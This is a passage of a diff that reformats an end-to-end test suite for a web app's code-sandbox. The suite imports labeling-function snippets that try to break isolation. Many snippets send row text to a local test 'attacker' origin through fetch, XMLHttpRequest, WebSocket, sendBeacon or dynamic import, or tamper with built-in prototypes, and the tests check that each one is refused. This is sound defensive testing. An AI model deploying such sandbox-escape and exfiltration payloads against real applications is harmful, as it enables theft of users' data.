@@ -52,7 +52,26 @@ const SPAM = 1;
 /** Three chunks of rows (storage/types.ts ROWS_PER_CHUNK): LF workers read IndexedDB several times. */
 const SPLITS = { train: 2000, dev: 200, test: 200 } as const;
 const N = SPLITS.train + SPLITS.dev + SPLITS.test;
-const FILLER = ['hello', 'team', 'report', 'project', 'update', 'please', 'review', 'thanks', 'tomorrow', 'call', 'notes', 'draft', 'office', 'plan', 'week', 'offer', 'client', 'budget'];
+const FILLER = [
+  'hello',
+  'team',
+  'report',
+  'project',
+  'update',
+  'please',
+  'review',
+  'thanks',
+  'tomorrow',
+  'call',
+  'notes',
+  'draft',
+  'office',
+  'plan',
+  'week',
+  'offer',
+  'client',
+  'budget',
+];
 
 function makeRows(): { text: string }[] {
   let s = 0x5eed;
@@ -79,7 +98,17 @@ const ROWS = makeRows();
 /** The ordinary LFs: two templates and code LFs that use a regex, a helper and String methods. */
 const ORDINARY: LfDef[] = [
   { id: 'o1', name: 're_money', kind: 'regex', label: 'spam', pattern: '\\$\\d+', flags: 'i', enabled: true },
-  { id: 'o2', name: 'kw_meeting', kind: 'keyword', label: 'ham', keywords: ['meeting', 'lunch'], mode: 'any', match: 'word', caseSensitive: false, enabled: true },
+  {
+    id: 'o2',
+    name: 'kw_meeting',
+    kind: 'keyword',
+    label: 'ham',
+    keywords: ['meeting', 'lunch'],
+    mode: 'any',
+    match: 'word',
+    caseSensitive: false,
+    enabled: true,
+  },
   { id: 'o3', name: 'code_free', kind: 'code', source: "(x) => /\\bfree\\b/i.test(x.text) ? 'spam' : null", enabled: true },
   { id: 'o4', name: 'code_short', kind: 'code', source: "(x) => x.text.length < 40 ? 'ham' : null", enabled: true },
   { id: 'o5', name: 'code_words', kind: 'code', source: "(x) => words(x).includes('meeting') ? 'ham' : null", enabled: true },
@@ -110,7 +139,9 @@ afterAll(() => rmSync(tmp, { recursive: true, force: true }));
 
 /** A project file with its data, as Export → Project writes it (src/app/bundle.ts exportProject). */
 function projectFile(name: string, lfs: LfDef[]): string {
-  const split = ROWS.map((_, i) => (i < SPLITS.train ? 'train' : i < SPLITS.train + SPLITS.dev ? 'dev' : 'test') as 'train' | 'dev' | 'test');
+  const split = ROWS.map(
+    (_, i) => (i < SPLITS.train ? 'train' : i < SPLITS.train + SPLITS.dev ? 'dev' : 'test') as 'train' | 'dev' | 'test',
+  );
   const bundle: Omit<ProjectBundle, 'format' | 'schemaVersion'> = {
     exportedAt: '2026-12-07T12:00:00.000Z',
     project: { name },
@@ -118,7 +149,11 @@ function projectFile(name: string, lfs: LfDef[]): string {
     settings: { textFields: ['text'], fields: ['text'], idField: null },
     lfs,
     // A few dev gold labels, so the preview's accuracy has something to count.
-    gold: { train: [], dev: Array.from({ length: 20 }, (_, t) => [t, EXPECTED.code_free[SPLITS.train + t] === SPAM ? SPAM : HAM] as [number, number]), test: [] },
+    gold: {
+      train: [],
+      dev: Array.from({ length: 20 }, (_, t) => [t, EXPECTED.code_free[SPLITS.train + t] === SPAM ? SPAM : HAM] as [number, number]),
+      test: [],
+    },
     model: { labelModel: 'mv', classBalance: 'uniform', seed: 7 },
     data: { rows: ROWS.map((r) => ({ ...r })), split },
   };
@@ -168,7 +203,15 @@ async function stored(page: Page): Promise<Stored> {
     return {
       projects: projects.map((p) => ({ id: String(p.id), name: String(p.name) })).sort((a, b) => a.id.localeCompare(b.id)),
       lfs: lfs
-        .map((l) => ({ id: String(l.id), projectId: String(l.projectId), name: String(l.name), kind: String(l.kind), sourceHash: String(l.sourceHash), enabled: Boolean(l.enabled), order: Number(l.order) }))
+        .map((l) => ({
+          id: String(l.id),
+          projectId: String(l.projectId),
+          name: String(l.name),
+          kind: String(l.kind),
+          sourceHash: String(l.sourceHash),
+          enabled: Boolean(l.enabled),
+          order: Number(l.order),
+        }))
         .sort((a, b) => a.projectId.localeCompare(b.projectId) || a.order - b.order),
       datasets: datasets.map((d) => ({ projectId: String(d.projectId), currentVersion: String(d.currentVersion) })),
       votes: votes.map((v) => {
@@ -180,7 +223,14 @@ async function stored(page: Page): Promise<Stored> {
           if (a[i] >= 0) covered++;
         }
         const error = typeof v.error === 'string' ? v.error : '';
-        return { sourceHash: String(v.sourceHash), versionId: String(v.versionId), digest: `${a.length}:${h.toString(16)}`, covered, errorLength: error.length, errorHead: error.slice(0, 300) };
+        return {
+          sourceHash: String(v.sourceHash),
+          versionId: String(v.versionId),
+          digest: `${a.length}:${h.toString(16)}`,
+          covered,
+          errorLength: error.length,
+          errorHead: error.slice(0, 300),
+        };
       }),
     };
   });
@@ -199,7 +249,11 @@ function projectView(s: Stored, projectId: string): { name: string; lfs: string[
   const lfs = s.lfs.filter((l) => l.projectId === projectId);
   const votes: Record<string, StoredVotes | undefined> = {};
   for (const l of lfs) votes[l.name] = s.votes.find((v) => v.versionId === version && v.sourceHash === l.sourceHash);
-  return { name: s.projects.find((p) => p.id === projectId)?.name ?? '(missing)', lfs: lfs.map((l) => `${l.name}:${l.kind}:${l.sourceHash}:${l.enabled}`), votes };
+  return {
+    name: s.projects.find((p) => p.id === projectId)?.name ?? '(missing)',
+    lfs: lfs.map((l) => `${l.name}:${l.kind}:${l.sourceHash}:${l.enabled}`),
+    votes,
+  };
 }
 
 /** Everything about the projects in `before` that an attack must not change. */
@@ -209,7 +263,8 @@ function untouched(before: Stored, after: Stored): void {
     const b = projectView(before, p.id);
     expect.soft(a.name, `project ${p.id} was renamed`).toBe(b.name);
     expect.soft(a.lfs, `the LF list of project "${b.name}" changed`).toEqual(b.lfs);
-    for (const [lf, v] of Object.entries(b.votes)) expect.soft(a.votes[lf]?.digest, `the votes of ${lf} in "${b.name}" changed`).toBe(v?.digest);
+    for (const [lf, v] of Object.entries(b.votes))
+      expect.soft(a.votes[lf]?.digest, `the votes of ${lf} in "${b.name}" changed`).toBe(v?.digest);
   }
   expect.soft(after.projects.map((p) => p.id)).toEqual(expect.arrayContaining(before.projects.map((p) => p.id)));
 }
@@ -244,12 +299,28 @@ function mark(h: Harness, attacker: AttackerServer): Mark {
  */
 function noEgressSince(h: Harness, attacker: AttackerServer, m: Mark): void {
   const hits = attacker.hits.slice(m.hits);
-  expect.soft(hits.length, `the attacker server received ${hits.length} request(s), e.g.:\n${hits.slice(0, 5).map((x) => `${x.method} ${x.url.slice(0, 160)} (${x.from})`).join('\n')}`).toBe(0);
+  expect
+    .soft(
+      hits.length,
+      `the attacker server received ${hits.length} request(s), e.g.:\n${hits
+        .slice(0, 5)
+        .map((x) => `${x.method} ${x.url.slice(0, 160)} (${x.from})`)
+        .join('\n')}`,
+    )
+    .toBe(0);
   const foreign = h.requests.slice(m.requests).filter((r) => {
     const u = new URL(r.url);
     return !['data:', 'blob:', 'about:'].includes(u.protocol) && u.origin !== h.origin;
   });
-  expect.soft(foreign.length, `the page tried ${foreign.length} request(s) outside its origin, e.g.:\n${foreign.slice(0, 5).map((r) => `${r.method} ${r.url.slice(0, 160)}`).join('\n')}`).toBe(0);
+  expect
+    .soft(
+      foreign.length,
+      `the page tried ${foreign.length} request(s) outside its origin, e.g.:\n${foreign
+        .slice(0, 5)
+        .map((r) => `${r.method} ${r.url.slice(0, 160)}`)
+        .join('\n')}`,
+    )
+    .toBe(0);
 }
 
 /**
@@ -264,7 +335,10 @@ async function importAndRun(h: Harness, file: string, lfs: readonly LfDef[]): Pr
   const shown = await page.getByTestId('import-code').allTextContents();
   for (const lf of lfs) if (lf.kind === 'code') expect(shown, `the review screen must show ${lf.name}'s code`).toContain(lf.source);
   await page.getByTestId('import-confirm').click();
-  await settled(page, lfs.map((l) => l.name));
+  await settled(
+    page,
+    lfs.map((l) => l.name),
+  );
 }
 
 /**
@@ -274,7 +348,10 @@ async function importAndRun(h: Harness, file: string, lfs: readonly LfDef[]): Pr
 async function settled(page: Page, names: readonly string[]): Promise<void> {
   await page.waitForFunction(
     (ns) => {
-      const statuses = ns.map((n) => document.querySelector(`[data-testid="lf-row"][data-lf-name="${CSS.escape(n)}"] [data-testid="lf-status"]`)?.textContent ?? '');
+      const statuses = ns.map(
+        (n) =>
+          document.querySelector(`[data-testid="lf-row"][data-lf-name="${CSS.escape(n)}"] [data-testid="lf-status"]`)?.textContent ?? '',
+      );
       if (statuses.some((t) => t === '' || /running/.test(t))) return false;
       return statuses.every((t) => /coverage|error/.test(t)) || document.querySelector('[data-testid="session-error"]') !== null;
     },
@@ -312,7 +389,8 @@ interface Attack {
 }
 
 /** Messages that say a capability is missing, frozen or refused. */
-const REFUSED = /not defined|blocked|undefined|not a function|not a (valid )?constructor|rejected|import|frozen|read[- ]only|not extensible|Cannot|not allowed|may not be accessed|denied|invalid|unavailable/i;
+const REFUSED =
+  /not defined|blocked|undefined|not a function|not a (valid )?constructor|rejected|import|frozen|read[- ]only|not extensible|Cannot|not allowed|may not be accessed|denied|invalid|unavailable/i;
 
 /**
  * Attack 1's payload, after the forgery: seize the app's IndexedDB handle through the IDB
@@ -392,18 +470,32 @@ function forgeryLfs(variant: string, when: 'run' | 'compile', attacker: string):
 /** Attack 2: one LF changes the built-ins (or shared helper results) the others use. */
 const MUTATORS: Attack[] = [
   { lf: code('mut_regexp_test', "(x) => { RegExp.prototype.test = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
-  { lf: code('mut_regexp_exec', "(x) => { RegExp.prototype.exec = function () { return ['x']; }; return 'spam'; }"), mustFail: true, message: REFUSED },
-  { lf: code('mut_define', "(x) => { Object.defineProperty(RegExp.prototype, 'test', { value: () => true }); return 'spam'; }"), mustFail: true, message: REFUSED },
+  {
+    lf: code('mut_regexp_exec', "(x) => { RegExp.prototype.exec = function () { return ['x']; }; return 'spam'; }"),
+    mustFail: true,
+    message: REFUSED,
+  },
+  {
+    lf: code('mut_define', "(x) => { Object.defineProperty(RegExp.prototype, 'test', { value: () => true }); return 'spam'; }"),
+    mustFail: true,
+    message: REFUSED,
+  },
   { lf: code('mut_includes', "(x) => { String.prototype.includes = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
   { lf: code('mut_array', "(x) => { Array.prototype.includes = () => true; return 'spam'; }"), mustFail: true, message: REFUSED },
   // The helpers' per-row results are shared by every LF of the row (lf/helpers.ts): pushing into one must not reach the others.
-  { lf: code('mut_words', "(x) => { const w = words(x); try { w.push('meeting'); } catch (e) {} try { w.length = 0; } catch (e) {} return null; }"), mustFail: false },
+  {
+    lf: code(
+      'mut_words',
+      "(x) => { const w = words(x); try { w.push('meeting'); } catch (e) {} try { w.length = 0; } catch (e) {} return null; }",
+    ),
+    mustFail: false,
+  },
 ];
 
 /** Attack 4: each probe throws when the capability is out of reach, and otherwise uses it and votes. */
 function probes(attacker: string): Attack[] {
   const A = JSON.stringify(attacker);
-  const d = "encodeURIComponent(String(x.text).slice(0, 100))";
+  const d = 'encodeURIComponent(String(x.text).slice(0, 100))';
   // A global object reached some other way: does it carry a capability? Use the network ones.
   const cap = `const cap = (g, how) => {
     if (!g || (typeof g !== 'object' && typeof g !== 'function')) throw new Error('blocked: ' + how + ' gave no object');
@@ -423,19 +515,34 @@ function probes(attacker: string): Attack[] {
     ['probe_fontface', `(x) => { new FontFace('x', 'url(' + ${A} + '/font?d=' + ${d} + ')').load().catch(() => {}); return 'spam'; }`],
     ['probe_self_fonts', `(x) => { const f = self.fonts; if (!f) throw new Error('blocked: self.fonts'); return 'spam'; }`],
     ['probe_fonts', `(x) => { if (typeof fonts === 'undefined' || !fonts) throw new Error('blocked: fonts'); return 'spam'; }`],
-    ['probe_fs_sync', `(x) => { if (typeof webkitRequestFileSystemSync !== 'function') throw new Error('blocked: webkitRequestFileSystemSync'); webkitRequestFileSystemSync(0, 1024); return 'spam'; }`],
-    ['probe_fs_async', `(x) => { if (typeof webkitRequestFileSystem !== 'function') throw new Error('blocked: webkitRequestFileSystem'); return 'spam'; }`],
+    [
+      'probe_fs_sync',
+      `(x) => { if (typeof webkitRequestFileSystemSync !== 'function') throw new Error('blocked: webkitRequestFileSystemSync'); webkitRequestFileSystemSync(0, 1024); return 'spam'; }`,
+    ],
+    [
+      'probe_fs_async',
+      `(x) => { if (typeof webkitRequestFileSystem !== 'function') throw new Error('blocked: webkitRequestFileSystem'); return 'spam'; }`,
+    ],
     ['probe_indexeddb', `(x) => { indexedDB.open('shoal'); return 'spam'; }`],
-    ['probe_idb_interfaces', `(x) => { if (typeof IDBDatabase === 'undefined' && typeof IDBObjectStore === 'undefined' && typeof IDBFactory === 'undefined') throw new Error('blocked: IDB interfaces'); return 'spam'; }`],
+    [
+      'probe_idb_interfaces',
+      `(x) => { if (typeof IDBDatabase === 'undefined' && typeof IDBObjectStore === 'undefined' && typeof IDBFactory === 'undefined') throw new Error('blocked: IDB interfaces'); return 'spam'; }`,
+    ],
     ['probe_caches', `(x) => { caches.open('x'); return 'spam'; }`],
     ['probe_worker', `(x) => { new Worker('data:text/javascript,0'); return 'spam'; }`],
     ['probe_importscripts', `(x) => { importScripts(${A} + '/is?d=' + ${d}); return 'spam'; }`],
-    ['probe_sendbeacon', `(x) => { if (!navigator.sendBeacon(${A} + '/beacon', x.text)) throw new Error('blocked: beacon refused'); return 'spam'; }`],
+    [
+      'probe_sendbeacon',
+      `(x) => { if (!navigator.sendBeacon(${A} + '/beacon', x.text)) throw new Error('blocked: beacon refused'); return 'spam'; }`,
+    ],
     ['probe_eventsource', `(x) => { new EventSource(${A} + '/events?d=' + ${d}); return 'spam'; }`],
     ['probe_xhr', `(x) => { const r = new XMLHttpRequest(); r.open('GET', ${A} + '/xhr?d=' + ${d}); r.send(); return 'spam'; }`],
     ['probe_websocket', `(x) => { new WebSocket(${A}.replace('http', 'ws') + '/ws?d=' + ${d}); return 'spam'; }`],
     ['probe_broadcast', `(x) => { new BroadcastChannel('shoal:shoal').postMessage(x.text); return 'spam'; }`],
-    ['probe_fetch_ctor', `(x) => { const f = (() => {}).constructor('return fetch')(); if (typeof f !== 'function') throw new Error('blocked: fetch via the Function constructor'); f(${A} + '/ctor?d=' + ${d}); return 'spam'; }`],
+    [
+      'probe_fetch_ctor',
+      `(x) => { const f = (() => {}).constructor('return fetch')(); if (typeof f !== 'function') throw new Error('blocked: fetch via the Function constructor'); f(${A} + '/ctor?d=' + ${d}); return 'spam'; }`,
+    ],
     ['probe_function_this', `(x) => { ${cap} return cap(Function('return this')(), 'Function("return this")'); }`],
     ['probe_row_ctor', `(x) => { ${cap} return cap(x.constructor.constructor('return this')(), 'x.constructor.constructor'); }`],
     ['probe_sloppy_this', `(x) => { ${cap} return cap((function () { return this; })(), 'a sloppy this'); }`],
@@ -443,20 +550,38 @@ function probes(attacker: string): Attack[] {
     ['probe_global_ctor', `(x) => { ${cap} const C = globalThis.constructor; return cap(C && C.prototype, 'globalThis.constructor'); }`],
     ['probe_global_proto', `(x) => { ${cap} return cap(globalThis, 'globalThis and its prototypes'); }`],
     ['probe_async_ctor', `(x) => { ${cap} return cap((async () => {}).constructor('return this'), 'the AsyncFunction constructor'); }`],
-    ['probe_generator_ctor', `(x) => { ${cap} return cap((function* () {}).constructor('yield this')().next().value, 'the GeneratorFunction constructor'); }`],
+    [
+      'probe_generator_ctor',
+      `(x) => { ${cap} return cap((function* () {}).constructor('yield this')().next().value, 'the GeneratorFunction constructor'); }`,
+    ],
     ['probe_caller', `(x) => { ${cap} const f = function g() { return g.caller; }; return cap(f(), 'a function caller'); }`],
-    ['probe_callee', `function (x) { const c = arguments.callee; return c && c.caller ? 'spam' : (() => { throw new Error('blocked: arguments.callee.caller'); })(); }`],
+    [
+      'probe_callee',
+      `function (x) { const c = arguments.callee; return c && c.caller ? 'spam' : (() => { throw new Error('blocked: arguments.callee.caller'); })(); }`,
+    ],
     ['probe_settimeout', `(x) => { setTimeout(() => { try { fetch(${A} + '/later'); } catch (e) {} }, 0); return 'spam'; }`],
     ['probe_dynamic_import', `(x) => { import(${A} + '/m.js?d=' + ${d}).catch(() => {}); return 'spam'; }`],
     ['probe_import_comment', `(x) => { import/**/(${A} + '/mc.js?d=' + ${d}).catch(() => {}); return 'spam'; }`],
-    ['probe_import_function', `(x) => { Function('u', 'return im' + 'port(u)')(${A} + '/fm.js?d=' + ${d}).catch(() => {}); return 'spam'; }`],
-    ['probe_import_eval', `(x) => { (0, eval)('im' + 'port(' + JSON.stringify(${A} + '/em.js?d=' + ${d}) + ')').catch(() => {}); return 'spam'; }`],
+    [
+      'probe_import_function',
+      `(x) => { Function('u', 'return im' + 'port(u)')(${A} + '/fm.js?d=' + ${d}).catch(() => {}); return 'spam'; }`,
+    ],
+    [
+      'probe_import_eval',
+      `(x) => { (0, eval)('im' + 'port(' + JSON.stringify(${A} + '/em.js?d=' + ${d}) + ')').catch(() => {}); return 'spam'; }`,
+    ],
   ];
   return [
     ...list.map(([name, source]) => ({ lf: code(name, source), mustFail: true, message: REFUSED })),
     // A forgery that does not throw where the LF returns: rejected promises left behind with
     // the magic text. The LF itself abstains and may pass; nothing else may change.
-    { lf: code('probe_deferred_forgery', `(x) => { Promise.reject(new Error(${NS})); Promise.resolve().then(() => { throw new Error(${NS}); }); return null; }`), mustFail: false },
+    {
+      lf: code(
+        'probe_deferred_forgery',
+        `(x) => { Promise.reject(new Error(${NS})); Promise.resolve().then(() => { throw new Error(${NS}); }); return null; }`,
+      ),
+      mustFail: false,
+    },
   ];
 }
 
@@ -543,7 +668,14 @@ function attackSuite(server: 'preview' | 'static'): void {
         const before = await stored(h.page);
         // Only the forgers: every LF of a chunk then "crashes" its worker, which gave up on the whole run before.
         const attacks = forgeryLfs(variant, 'run', attacker.origin);
-        await importAndRun(h, projectFile(`forge-run-${variant.replace(/\W+/g, '-')}-${server}`, attacks.map((a) => a.lf)), attacks.map((a) => a.lf));
+        await importAndRun(
+          h,
+          projectFile(
+            `forge-run-${variant.replace(/\W+/g, '-')}-${server}`,
+            attacks.map((a) => a.lf),
+          ),
+          attacks.map((a) => a.lf),
+        );
         await verdict(m, before, attacks, `forge-run-${variant}`);
         // Later runs in this page (same pool) still run code LFs in the sandbox, with clean votes.
         const middle = await stored(h.page);
@@ -577,14 +709,21 @@ function attackSuite(server: 'preview' | 'static'): void {
           const [a] = forgeryLfs(variant, when, attacker.origin);
           await writeCodeLf(page, `preview_${when}_${variant.replace(/\W+/g, '_')}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
           // The preview answers with an error (the forgery is refused) or numbers; never the fallback.
-          await page.waitForFunction(() => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''), null, { timeout: 60_000 });
+          await page.waitForFunction(
+            () => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
+            null,
+            { timeout: 60_000 },
+          );
           await page.waitForTimeout(2000);
           const text = (await page.getByTestId('lf-preview').textContent()) ?? '';
           await h.shot(`attacks-${server}-preview-${when}-${variant}`);
           expect(text, `the preview of the ${variant} forgery (${when}) must show an error`).toMatch(/error/i);
           expect(text).not.toMatch(/Coverage 100/);
           noEgressSince(h, attacker, m);
-          expect(await page.getByTestId('isolation-status').count(), `the ${variant} forgery (${when}) in the preview made the app report isolation unavailable`).toBe(0);
+          expect(
+            await page.getByTestId('isolation-status').count(),
+            `the ${variant} forgery (${when}) in the preview made the app report isolation unavailable`,
+          ).toBe(0);
         }
       }
       // The preview stores nothing: every project is as it was, and there is no new one.
@@ -604,8 +743,14 @@ function attackSuite(server: 'preview' | 'static'): void {
       // The same through the live preview (a pasted snippet): it runs in the same pool.
       for (const a of MUTATORS.filter((x) => x.mustFail)) {
         await writeCodeLf(h.page, `preview_${a.lf.name}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
-        await h.page.waitForFunction(() => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''), null, { timeout: 60_000 });
-        expect.soft((await h.page.getByTestId('lf-preview').textContent()) ?? '', `the preview of ${a.lf.name} must show its error`).toMatch(REFUSED);
+        await h.page.waitForFunction(
+          () => /rror|Coverage/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
+          null,
+          { timeout: 60_000 },
+        );
+        expect
+          .soft((await h.page.getByTestId('lf-preview').textContent()) ?? '', `the preview of ${a.lf.name} must show its error`)
+          .toMatch(REFUSED);
       }
       // Workers are reused (pool.ts): a later run in this page must still compute clean votes.
       const middle = await stored(h.page);
@@ -627,14 +772,32 @@ function attackSuite(server: 'preview' | 'static'): void {
         // Not an Error: a plain object whose message is huge.
         { lf: code('huge_plain_throw', "(x) => { throw { message: 'D'.repeat(2e7) }; }"), mustFail: true, message: /20,000,000/ },
         // Thrown values that fight being read: getters and a Proxy that throw, a Symbol.
-        { lf: code('hostile_getters', "(x) => { throw { get message() { throw new Error('no message'); }, get name() { throw 1; }, toString() { throw 2; } }; }"), mustFail: true },
-        { lf: code('hostile_proxy', "(x) => { throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); } }); }"), mustFail: true },
+        {
+          lf: code(
+            'hostile_getters',
+            "(x) => { throw { get message() { throw new Error('no message'); }, get name() { throw 1; }, toString() { throw 2; } }; }",
+          ),
+          mustFail: true,
+        },
+        {
+          lf: code(
+            'hostile_proxy',
+            "(x) => { throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); } }); }",
+          ),
+          mustFail: true,
+        },
         { lf: code('throws_symbol', "(x) => { throw Symbol('s'); }"), mustFail: true },
         // A huge return value that is not a class name.
         { lf: code('huge_return', "(x) => 'E'.repeat(2e7)"), mustFail: true },
         // A returned value that fights being read (an endless trap would only meet the time
         // budget, which e2e/isolation and the pool's tests already cover).
-        { lf: code('hostile_return', "(x) => new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); } })"), mustFail: true },
+        {
+          lf: code(
+            'hostile_return',
+            "(x) => new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, has() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); } })",
+          ),
+          mustFail: true,
+        },
       ];
       const lfs = [...attacks.map((a) => a.lf), ...ORDINARY];
       await importAndRun(h, projectFile(`huge-error-${server}`, lfs), lfs);
@@ -646,7 +809,12 @@ function attackSuite(server: 'preview' | 'static'): void {
       }
       expect.soft(view.votes.huge_error?.errorHead).toMatch(/AAAA/);
       // One unbroken 2 KB word must not stretch the page sideways (the list stays readable).
-      expect.soft(await page.evaluate(() => document.documentElement.scrollWidth), 'the page is wider than the window: an LF error does not wrap').toBeLessThanOrEqual(1280);
+      expect
+        .soft(
+          await page.evaluate(() => document.documentElement.scrollWidth),
+          'the page is wider than the window: an LF error does not wrap',
+        )
+        .toBeLessThanOrEqual(1280);
       // The page answers: another screen opens, and the LF list comes back.
       await page.getByRole('link', { name: 'Analysis', exact: true }).click();
       await page.getByRole('heading', { level: 1, name: 'Analysis' }).waitFor({ timeout: 30_000 });
@@ -654,10 +822,19 @@ function attackSuite(server: 'preview' | 'static'): void {
       await lfRow(page, 'huge_error').getByTestId('lf-error').waitFor({ timeout: 30_000 });
       // The live preview bounds it too.
       await writeCodeLf(page, 'huge_preview', "(x) => { throw new Error('C'.repeat(2e7)); }");
-      await page.waitForFunction(() => /Error on|rror/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''), null, { timeout: 60_000 });
+      await page.waitForFunction(
+        () => /Error on|rror/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
+        null,
+        { timeout: 60_000 },
+      );
       const previewText = (await page.getByTestId('lf-preview').textContent()) ?? '';
       await h.shot(`attacks-${server}-huge-preview`);
-      expect.soft(await page.evaluate(() => document.documentElement.scrollWidth), 'the page is wider than the window: the preview error does not wrap').toBeLessThanOrEqual(1280);
+      expect
+        .soft(
+          await page.evaluate(() => document.documentElement.scrollWidth),
+          'the page is wider than the window: the preview error does not wrap',
+        )
+        .toBeLessThanOrEqual(1280);
       expect(previewText.length, 'the preview shows a bounded message').toBeLessThan(10_000);
       expect(previewText).toMatch(/20,000,000/);
       noEgressSince(h, attacker, m);
@@ -682,7 +859,11 @@ function attackSuite(server: 'preview' | 'static'): void {
       for (const name of ['probe_global_proto', 'probe_fontface', 'probe_fetch_ctor', 'probe_import_function']) {
         const a = attacks.find((x) => x.lf.name === name)!;
         await writeCodeLf(h.page, `preview_${name}`, (a.lf as Extract<LfDef, { kind: 'code' }>).source);
-        await h.page.waitForFunction(() => /rror|Coverage|may not contain/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''), null, { timeout: 60_000 });
+        await h.page.waitForFunction(
+          () => /rror|Coverage|may not contain/.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
+          null,
+          { timeout: 60_000 },
+        );
         await h.page.waitForTimeout(1000);
         const text = (await h.page.getByTestId('lf-preview').textContent()) ?? '';
         expect.soft(text, `the preview of ${name}`).toMatch(REFUSED);
@@ -696,74 +877,85 @@ function attackSuite(server: 'preview' | 'static'): void {
 attackSuite('preview');
 attackSuite('static');
 
-browserSuite('LF sandbox: where the isolated frame cannot start (a static host that breaks its script), code LFs do not run anywhere', () => {
-  // No headers (page workers would have no CSP at all), and the frame script's hash taken out of
-  // the meta CSP: the sandboxed frame's one inline script is refused, so it never reports ready.
-  const h = new Harness({ server: 'static' });
-  const attacker = new AttackerServer();
-  h.screenshotOnFailure();
-  beforeAll(async () => {
-    await attacker.start();
-    await h.start();
-    const strip = (csp: string) => csp.replace(/ 'sha256-[^']+'/g, '');
-    await h.context.route(
-      (url) => url.origin === h.origin && (url.pathname.endsWith('/') || url.pathname.endsWith('.html')),
-      async (route) => {
-        const response = await route.fetch();
-        await route.fulfill({ response, body: strip(await response.text()) });
-      },
-    );
-  });
-  afterAll(async () => {
-    await h.close();
-    await attacker.close();
-  });
+browserSuite(
+  'LF sandbox: where the isolated frame cannot start (a static host that breaks its script), code LFs do not run anywhere',
+  () => {
+    // No headers (page workers would have no CSP at all), and the frame script's hash taken out of
+    // the meta CSP: the sandboxed frame's one inline script is refused, so it never reports ready.
+    const h = new Harness({ server: 'static' });
+    const attacker = new AttackerServer();
+    h.screenshotOnFailure();
+    beforeAll(async () => {
+      await attacker.start();
+      await h.start();
+      const strip = (csp: string) => csp.replace(/ 'sha256-[^']+'/g, '');
+      await h.context.route(
+        (url) => url.origin === h.origin && (url.pathname.endsWith('/') || url.pathname.endsWith('.html')),
+        async (route) => {
+          const response = await route.fetch();
+          await route.fulfill({ response, body: strip(await response.text()) });
+        },
+      );
+    });
+    afterAll(async () => {
+      await h.close();
+      await attacker.close();
+    });
 
-  vitestIt('code LFs say why in one sentence and send nothing; templates run [static, no frame]', async () => {
-    const page = h.page;
-    const m = mark(h, attacker);
-    await h.goto('#/export');
-    const html = await page.content();
-    expect(html, 'the route took the frame hash out of the CSP').not.toMatch(/'sha256-/);
-    // Code LFs that would announce themselves to the attacker if they ran anywhere.
-    const A = JSON.stringify(attacker.origin);
-    const ran = (name: string) => code(name, `(x) => { try { (0, Function)('u', 'return im' + 'port(u)')(${A} + '/ran/${name}?d=' + encodeURIComponent(x.text)).catch(() => {}); } catch (e) {} try { fetch(${A} + '/ran/${name}'); } catch (e) {} return 'spam'; }`);
-    const codeLfs = [ran('beacon_one'), ran('beacon_two')];
-    const templates = ORDINARY.filter((l) => l.kind !== 'code');
-    const lfs = [...codeLfs, ...templates];
-    const before = await stored(page);
-    await importAndRun(h, projectFile('no-isolation', lfs), lfs);
-    await h.shot('attacks-no-isolation');
-    noEgressSince(h, attacker, m);
-    const after = await stored(page);
-    untouched(before, after);
-    const view = projectView(after, newProject(before, after));
-    const sentences: string[] = [];
-    for (const lf of codeLfs) {
-      expect(await statusOf(page, lf.name), `${lf.name} must not show a coverage`).not.toMatch(/coverage/);
-      const text = (await lfRow(page, lf.name).textContent()) ?? '';
-      const error = await errorOf(page, lf.name);
-      // One sentence saying why: short, not a stack trace.
-      const said = error || text;
-      expect(said, `${lf.name} must say why it did not run`).toMatch(/isolat|sandbox|process/i);
-      expect(error.length).toBeLessThan(400);
-      expect(error).not.toMatch(/\n\s+at /);
-      sentences.push(error);
-      expect(view.votes[lf.name]?.covered ?? 0, `${lf.name} must not have votes`).toBe(0);
-    }
-    expect(new Set(sentences).size, 'the same sentence for every code LF').toBe(1);
-    // The app says so where the user looks for the device's state, too.
-    expect.soft(await page.getByTestId('isolation-status').count(), 'the status bar says code LFs cannot run').toBe(1);
-    for (const lf of templates) {
-      expect(await statusOf(page, lf.name), `${lf.name} still runs`).toBe(coverageText(EXPECTED[lf.name]));
-      expect(view.votes[lf.name]?.digest, `${lf.name}'s votes`).toBe(digestOf(EXPECTED[lf.name]));
-    }
-    // The live preview of a code LF refuses too, and sends nothing.
-    await writeCodeLf(page, 'preview_beacon', (ran('preview_beacon') as Extract<LfDef, { kind: 'code' }>).source);
-    await page.waitForFunction(() => /isolat|sandbox|process|rror|Coverage/i.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''), null, { timeout: 60_000 });
-    await page.waitForTimeout(1500);
-    await h.shot('attacks-no-isolation-preview');
-    expect((await page.getByTestId('lf-preview').textContent()) ?? '').not.toMatch(/Coverage/);
-    noEgressSince(h, attacker, m);
-  });
-});
+    vitestIt('code LFs say why in one sentence and send nothing; templates run [static, no frame]', async () => {
+      const page = h.page;
+      const m = mark(h, attacker);
+      await h.goto('#/export');
+      const html = await page.content();
+      expect(html, 'the route took the frame hash out of the CSP').not.toMatch(/'sha256-/);
+      // Code LFs that would announce themselves to the attacker if they ran anywhere.
+      const A = JSON.stringify(attacker.origin);
+      const ran = (name: string) =>
+        code(
+          name,
